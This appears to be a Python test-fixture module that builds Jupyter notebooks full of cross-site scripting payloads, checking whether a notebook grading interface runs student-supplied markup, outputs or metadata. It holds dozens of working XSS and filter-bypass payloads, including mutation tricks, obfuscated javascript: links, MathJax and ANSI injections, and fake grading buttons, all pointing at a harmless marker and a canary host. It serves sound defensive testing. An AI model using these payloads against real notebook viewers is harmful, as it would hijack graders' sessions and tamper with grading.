"""What a student may put into the fields of a notebook so that it acts on the page of whoever reads it.

Each entry is a change to a fresh notebook; whatever acts calls `pwned(NAME)` or asks for CANARY/NAME.
"""

import base64

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

CANARY = "http://canary.invalid"


def script(name):
    return f"(window.__pwned = window.__pwned || []).push('{name}')"


def svg(name):
    return f'<svg xmlns="http://www.w3.org/2000/svg" onload="{script(name)}"><script>{script(name)}</script></svg>'


def encoded(text):
    return base64.b64encode(text.encode()).decode()


# In a written answer.
PROSE = {
    "script": "<script>{js}</script>",
    "script-src": '<script src="{url}"></script>',
    "module": '<script type="module">{js}</script>',
    "mathjax-config": '<script type="text/x-mathjax-config">{js}</script>',
    "img-onerror": "<img src=x onerror=\"{js}\">",
    "img-unquoted": "a<img/src=x/onerror=window.__pwned=['{name}']>b",
    "img-unclosed": "text <img src=x onerror=\"{js}\" ",
    "img-two-lines": "<img src=x\nonerror=\"{js}\">",
    "img-remote": '<img src="{url}">',
    "img-srcset": '<img srcset="{url} 1x">',
    "markdown-image": "![x]({url})",
    "markdown-image-reference": "![x][r]\n\n[r]: {url}",
    "markdown-image-title": "![x]({url} \"t\" onerror=\"{js}\")",
    "image-of-the-server": "![x](/formgrader?path=/tmp/{name})",
    "data-svg": "![x](data:image/svg+xml;base64,{svg64})",
    "svg-onload": "<svg onload=\"{js}\"></svg>",
    "svg-script": "<svg><script>{js}</script></svg>",
    "svg-use": '<svg><use href="{url}#x"/></svg>',
    "svg-animate": "<svg><animate onbegin=\"{js}\" attributeName=x dur=1s></svg>",
    "math-href": "<math><mtext><a href=\"javascript:{js}\">click</a></mtext></math>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={js}&gt;\">",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror={js}>\"></noscript>",
    "iframe": '<iframe src="{url}"></iframe>',
    "iframe-srcdoc": "<iframe srcdoc=\"<script>parent.{js}</script>\"></iframe>",
    "object": '<object data="{url}"></object>',
    "embed": '<embed src="{url}">',
    "form": '<form action="{url}"><input autofocus onfocus="{js}"><button>Full credit</button></form>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url={url}">',
    "base": '<base href="{url}/">',
    "link-stylesheet": '<link rel="stylesheet" href="{url}">',
    "link-prefetch": '<link rel="prefetch" href="{url}">',
    "style": "<style>.no-credit {{ display: none }} body {{ background: url({url}) }}</style>",
    "style-import": "<style>@import '{url}';</style>",
    "style-attribute": '<div style="position:fixed;inset:0;z-index:9999;background:url({url})">x</div>',
    "class-of-the-page": '<div class="modal fade in" style="display:block">x</div>',
    "id-of-a-box": '<input id="explanation" class="score tabbable"><h1 id="submission_id">x</h1>',
    "heading-of-a-box": "# explanation\n\n# test_main_path",
    "details": "<details open ontoggle=\"{js}\">x</details>",
    "video": "<video><source onerror=\"{js}\"></video>",
    "audio": '<audio src="{url}" onerror="{js}"></audio>',
    "body-onload": "<body onload=\"{js}\">",
    "marquee": "<marquee onstart=\"{js}\">x</marquee>",
    "link": "[click](javascript:{js})",
    "link-entity": "[click](java&#115;cript:{js})",
    "link-control": "[click](java\x01script:{js})",
    "link-tab": "<a href=\"java\tscript:{js}\">click</a>",
    "link-case": "[click](JaVaScRiPt:{js})",
    "link-vbscript": "[click](vbscript:{js})",
    "link-data": "[click](data:text/html;base64,{page64})",
    "link-reference": "[click]\n\n[click]: javascript:{js}",
    "link-auto": "<javascript:{js}>",
    "link-bare": "see {url} and www.canary.invalid",
    "link-to-a-file": "[click](evil.html)",
    "link-to-the-server": "[click](/formgrader?path=/tmp/{name})",
    "code-broken-out": "```\n</code></pre><img src=x onerror=\"{js}\">\n```\n<img src=x onerror=\"{js}\">",
    "fence-info": "```\"><img/src=x/onerror={js}>\nx\n```",
    "fence-mermaid": "```mermaid\ngraph TD; A[<img src=x onerror=\"{js}\">]\n```",
    "fence-in-a-list": "- ```\n<img src=x onerror=\"{js}\">\n```",
    "ticks-uneven": "``a` <img src=x onerror=\"{js}\"> `b``",
    "math-broken-out": "$$ </span><img src=x onerror=\"{js}\"> $$ <img src=x onerror=\"{js}\">",
    "math-environment": "\\begin{{align}}<img src=x onerror=\"{js}\">\\end{{align}}<img src=x onerror=\"{js}\">",
    "tex-href": "$\\href{{javascript:{js}}}{{click}}$",
    "tex-unicode": "$\\unicode{{x3c}}img src=x onerror={js}\\unicode{{x3e}}$",
    "tex-style": "$\\style{{position:fixed;inset:0}}{{x}}\\class{{modal}}{{y}}\\cssId{{explanation}}{{z}}$",
    "tex-require": "$\\require{{action}}\\mathtip{{x}}{{y}}$",
    "tex-loop": "$\\def\\a{{\\a\\a}}\\a$ and $\\newcommand{{\\b}}{{\\b\\b}}\\b$",
    "tex-entity": "&#36;&#92;href{{javascript:{js}}}{{click}}&#36;",
    "tex-text": "$\\text{{<img src=x onerror=\"{js}\">}}$",
    "comment": "<!-- --!><img src=x onerror=\"{js}\"> -->",
    "cdata": "<![CDATA[><img src=x onerror=\"{js}\">]]>",
    "processing-instruction": "<?x ><img src=x onerror=\"{js}\">?>",
    "closing-tags": "</div></div></div></div></body><img src=x onerror=\"{js}\">",
    "table-cell": "| a |\n|---|\n| <img src=x onerror=\"{js}\"> |",
    "custom-element": "<x-y onclick=\"{js}\" tabindex=1 autofocus onfocus=\"{js}\">x</x-y>",
    "link-around-a-picture": "[![x](attachment:a.png)](javascript:{js})",
    "link-mail": "<a@b.c\"onmouseover={js}> and <mailto:a@canary.invalid?x={url}>",
    "heading-with-attributes": "# x {{#submission_id .modal onclick=\"{js}\"}}",
    "tag-split-by-null": "<im\0g src=x onerror=\"{js}\"><scr\0ipt>{js}</scr\0ipt>",
    "tag-of-odd-spaces": "<img\u2028src=x\u000conerror=\"{js}\"> <svg\u00a0onload=\"{js}\">",
    "tag-in-a-quote": "> <img src=x\n> onerror=\"{js}\">",
    "tag-of-full-width": "＜img src=x onerror=\"{js}\"＞",
    "plaintext": "<plaintext><img src=x onerror=\"{js}\">",
    "xmp": "<xmp></xmp><img src=x onerror=\"{js}\"><noembed></noembed><textarea></textarea><title></title>",
    "foreign-object": "<svg><foreignObject><iframe srcdoc=\"<script>parent.{js}</script>\"></foreignObject></svg>",
    "svg-style": "<svg><style><img src=x onerror=\"{js}\"></style></svg><math><mi><style><img src=x onerror=\"{js}\">",
    "popover": "<button popovertarget=explanation onbeforetoggle=\"{js}\">click</button>",
    "slot": "<img src=x onerror=\"{js}\" is=x-y slot=a part=b><link rel=preload as=image href=\"{url}\">",
    "tex-mbox": "$\\mbox{{<img src=x onerror=\"{js}\">}}\\verb|<svg onload=\"{js}\">|$",
    "tex-in-a-table": "| a |\n|---|\n| $\\href{{javascript:{js}}}{{click}}$ <svg onload=\"{js}\"> |",
    "tex-unclosed": "$\\text{{<img src=x onerror=\"{js}\">",
    "tex-mathml": "$$<math href=\"javascript:{js}\"><maction xlink:href=\"{url}\">x</maction></math>$$",
    "tex-color": "$\\color{{red;background:url({url})}}{{x}}\\colorbox{{url({url})}}{{y}}\\textcolor{{x}}{{z}}$",
    "template": "<template shadowrootmode=open><img src=x onerror=\"{js}\"></template>",
}


def output(data, metadata=None, kind="display_data"):
    return new_output(kind, data=data, metadata=metadata or {})


# What the kernel may send for a cell, whatever the cell's code is.
OUTPUTS = {
    "output-html": lambda n: output({"text/html": f"<script>{script(n)}</script>", "text/plain": "x"}),
    "output-html-handler": lambda n: output({"text/html": f'<b>b</b><img src=x onerror="{script(n)}">'}),
    "output-html-list": lambda n: output({"text/html": ["<script>", script(n), "</script>"]}),
    "output-html-isolated": lambda n: output(
        {"text/html": f"<script>fetch('{CANARY}/{n}')</script>"}, {"text/html": {"isolated": True}}
    ),
    "output-html-style": lambda n: output({"text/html": f"<style>*{{background:url({CANARY}/{n})}}</style>x"}),
    "output-html-image": lambda n: output({"text/html": f'<img src="{CANARY}/{n}"> text'}),
    "output-html-link": lambda n: output({"text/html": f'<a href="javascript:{script(n)}">click</a>'}),
    "output-html-data": lambda n: output({"text/html": f'<img src="data:image/svg+xml;base64,{encoded(svg(n))}">'}),
    "output-html-form": lambda n: output({"text/html": f'<form action="{CANARY}/{n}"><button>b</button></form>'}),
    "output-javascript": lambda n: output({"application/javascript": script(n)}),
    "output-javascript-x": lambda n: output({"text/javascript": script(n), "text/plain": "x"}),
    "output-svg": lambda n: output({"image/svg+xml": svg(n)}),
    "output-svg-file": lambda n: output({"image/svg+xml": svg(n)}, {"filenames": {"image/svg+xml": f"{CANARY}/{n}"}}),
    "output-markdown": lambda n: output({"text/markdown": f'<img src=x onerror="{script(n)}">'}),
    "output-latex": lambda n: output({"text/latex": f"$\\href{{javascript:{script(n)}}}{{click}}$"}),
    "output-latex-html": lambda n: output({"text/latex": f'<img src=x onerror="{script(n)}">'}),
    "output-latex-link": lambda n: output({"text/latex": f"[click](javascript:{script(n)}) ![x]({CANARY}/{n})"}),
    "output-latex-heading": lambda n: output({"text/latex": f"# explanation\n\n[click](/formgrader?path=/tmp/{n})"}),
    "output-plain": lambda n: output({"text/plain": f'<img src=x onerror="{script(n)}">'}),
    "output-png-attribute": lambda n: output({"image/png": f'x" onerror="{script(n)}'}),
    "output-png-svg": lambda n: output({"image/png": encoded(svg(n))}),
    "output-png-file": lambda n: output({"image/png": ""}, {"filenames": {"image/png": f"{CANARY}/{n}"}}),
    "output-png-width": lambda n: output({"image/png": ""}, {"image/png": {"width": f"1 onerror={script(n)}"}}),
    "output-png-alt": lambda n: output(
        {"image/png": ""}, {"image/png": {"alt": f'"><img src=x onerror="{script(n)}">'}}
    ),
    "output-jpeg": lambda n: output({"image/jpeg": f'x" onerror="{script(n)}'}),
    "output-gif": lambda n: output({"image/gif": encoded(svg(n))}),
    "output-pdf": lambda n: output({"application/pdf": encoded("%PDF-1.4")}),
    "output-mermaid": lambda n: output({"text/vnd.mermaid": f'A[<img src=x onerror="{script(n)}">]'}),
    "output-widget": lambda n: output({"application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{svg(n)}"}}),
    "output-vega": lambda n: output({"application/vnd.vega.v5+json": {"data": {"url": f"{CANARY}/{n}"}}}),
    "output-plotly": lambda n: output({"application/vnd.plotly.v1+json": {"layout": {"title": svg(n)}}}),
    "output-bokeh": lambda n: output({"application/vnd.bokehjs_exec.v0+json": "", "text/html": svg(n)}),
    "output-mime-name": lambda n: output({f"text/{svg(n)}": "x"}),
    "output-markdown-tex": lambda n: output({"text/markdown": f'$\\text{{<img src=x onerror="{script(n)}">}}$'}),
    "output-markdown-list": lambda n: output({"text/markdown": ["[click](java", f"script:{script(n)})"]}),
    "output-markdown-reference": lambda n: output({"text/markdown": f"[click]\n\n[click]: <javascript:{script(n)}>"}),
    "output-latex-text": lambda n: output({"text/latex": f'$\\text{{<img src=x onerror="{script(n)}">}}$'}),
    "output-latex-list": lambda n: output({"text/latex": ["$x$<img src=x ", f'onerror="{script(n)}">']}),
    "output-html-comment": lambda n: output({"text/html": f'<!--><img src=x onerror="{script(n)}">--><p>x'}),
    "output-html-mutation": lambda n: output(
        {"text/html": f'<svg></p><style><a id="</style><img src=x onerror={script(n)}>"></svg><p>x'}
    ),
    "output-html-source": lambda n: output(
        {"text/html": f'<picture><source srcset="{CANARY}/{n}"><img src="{CANARY}/{n}"></picture><p>x'}
    ),
    "output-html-script-in-data": lambda n: output(
        {"text/html": f'<img src="data:text/html;base64,{encoded(svg(n))}"><object data="data:text/html,{n}"></object>'}
    ),
    "output-bmp": lambda n: output({"image/bmp": encoded(svg(n)), "image/webp": f'" onerror="{script(n)}'}),
    "output-update": lambda n: output({"text/html": svg(n), "text/plain": "x"}, {"display_id": svg(n)}),
    "stream-link": lambda n: new_output("stream", text=f"\x1b]8;;javascript:{script(n)}\x07click\x1b]8;;\x07"),
    "error-ansi": lambda n: new_output(
        "error", ename="\x1b[31m<b>", evalue=svg(n), traceback=[f'\x1b[38;2;"onclick="{script(n)}";1m{svg(n)}\x1b[0m']
    ),
    "output-result": lambda n: output({"text/html": svg(n)}, kind="execute_result"),
    "stream": lambda n: new_output("stream", name="stdout", text=f'<img src=x onerror="{script(n)}">'),
    "stream-ansi": lambda n: new_output("stream", text=f'\x1b[38;2;1;2;3"onclick="{script(n)}m<b>\x1b[48;5;999mx'),
    "stream-name": lambda n: new_output("stream", name=svg(n), text=svg(n)),
    "error": lambda n: new_output("error", ename=svg(n), evalue=svg(n), traceback=[svg(n), f"\x1b[31m{svg(n)}"]),
}


def attached(forms, name="a.png"):
    cell = new_markdown_cell(f"![x](attachment:{name})")
    cell.attachments = {name: forms}
    return cell


def with_metadata(cell, **metadata):
    cell.metadata.update(metadata)
    return cell


def counted(count):
    cell = new_code_cell("pass")
    cell.execution_count = count
    return cell


def identified(name):
    cell = new_code_cell("pass")
    cell.id = name
    return cell


# Cells that are hostile by what stands beside their text.
CELLS = {
    "raw": lambda n: new_raw_cell(f"<script>{script(n)}</script>"),
    "raw-html": lambda n: with_metadata(new_raw_cell(f"<script>{script(n)}</script>"), raw_mimetype="text/html"),
    "raw-format": lambda n: with_metadata(new_raw_cell(svg(n)), format="text/html"),
    "attachment-svg": lambda n: attached({"image/svg+xml": encoded(svg(n))}),
    "attachment-html": lambda n: attached({"text/html": encoded(f"<script>{script(n)}</script>")}),
    "attachment-mime": lambda n: attached({f'x" onerror="{script(n)}': "x"}),
    "attachment-data": lambda n: attached({"image/png": f'x" onerror="{script(n)}'}),
    "attachment-name": lambda n: attached({"image/png": ""}, f'x"onerror="{script(n)}'),
    "attachment-missing": lambda n: new_markdown_cell("![x](attachment:nothing.png)"),
    "cell-tags": lambda n: with_metadata(new_code_cell("pass"), tags=[f'x"><img src=x onerror="{script(n)}">']),
    "cell-alt": lambda n: with_metadata(new_code_cell("pass"), alt=svg(n)),
    "cell-trusted": lambda n: with_metadata(
        new_code_cell("pass", outputs=[output({"text/html": f"<script>{script(n)}</script>"})]), trusted=True
    ),
    "cell-language": lambda n: with_metadata(new_code_cell("%%html\n" + svg(n)), magics_language=svg(n)),
    "cell-lang": lambda n: with_metadata(new_markdown_cell("x"), lang=f'x"><img src=x onerror="{script(n)}">'),
    "code": lambda n: new_code_cell(f'# </pre><img src=x onerror="{script(n)}">'),
}

# What no notebook may hold; nbgrader stops at it, so it comes only by a file that is there.
BROKEN = {
    "execution-count": lambda n: counted(svg(n)),
    "cell-id": lambda n: identified(f'x" onmouseover="{script(n)}"><img src=x onerror="{script(n)}">'),
    "cell-nbgrader": lambda n: with_metadata(
        new_markdown_cell("x"),
        nbgrader={"grade": True, "solution": True, "grade_id": f'"><img src=x onerror="{script(n)}">'},
    ),
    "cell-points": lambda n: with_metadata(
        new_code_cell("pass"), nbgrader={"grade": True, "solution": False, "grade_id": "more", "points": svg(n)}
    ),
}

METADATA = {
    "title": svg("metadata-title"),
    "authors": [{"name": svg("metadata-authors")}],
    "language_info": {"name": f'x"><script>{script("metadata-language")}</script>', "pygments_lexer": "html"},
    "kernelspec": {"name": "x", "display_name": svg("metadata-kernelspec")},
    "latex_metadata": {"title": svg("metadata-latex")},
    "celltoolbar": svg("metadata-celltoolbar"),
    "widgets": {"application/vnd.jupyter.widget-state+json": {"state": f"</script>{svg('metadata-widgets')}"}},
}

METADATA_NAMES = ("metadata-title", "metadata-language", "metadata-kernelspec", "metadata-widgets")
NAMES = [*PROSE, *OUTPUTS, *CELLS, *BROKEN, *METADATA_NAMES]


def cell(name):
    if name in PROSE:
        js, url = script(name), f"{CANARY}/{name}"
        page64 = encoded(f"<script>{js}</script>")
        return new_markdown_cell(PROSE[name].format(name=name, js=js, url=url, svg64=encoded(svg(name)), page64=page64))
    if name in OUTPUTS:
        return new_code_cell("pass", outputs=[OUTPUTS[name](name)])
    return {**CELLS, **BROKEN}[name](name)


def cells(*tables):
    return [cell(name) for table in tables for name in table]
